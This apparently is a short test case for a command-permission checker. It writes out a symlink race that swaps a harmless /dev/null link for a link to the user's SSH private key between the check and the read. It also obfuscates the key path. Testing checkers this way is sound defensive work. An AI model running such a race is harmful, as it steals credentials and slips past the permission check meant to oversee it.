# expect: read+write+exec
# why: n links to /dev/null (no question) and is swapped for a link to the key between judgement and open
ln -s /dev/null n
python3 -c 'import ctypes, os, sys, time
os.symlink(os.path.expanduser("~/.ss") + sys.argv[1], sys.argv[2] + ".ln")
end = time.time() + 2
while time.time() < end:
    ctypes.CDLL(None).renameat2(-100, sys.argv[2].encode(), -100, (sys.argv[2] + ".ln").encode(), 2)' h/id_ed25519 n &
for i in $(seq 300); do cat < n; done
